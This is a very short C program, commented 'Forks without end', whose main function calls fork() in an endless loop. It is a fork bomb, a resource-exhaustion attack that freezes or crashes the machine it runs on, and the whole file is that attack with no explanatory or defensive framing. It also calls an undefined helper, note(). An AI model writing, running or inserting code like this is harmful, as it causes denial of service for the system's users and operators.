// Forks without end.
int main(void) {
  for (;;)
    if (fork() < 0) { note("fork", -1); sleep(1); _exit(1); }
}
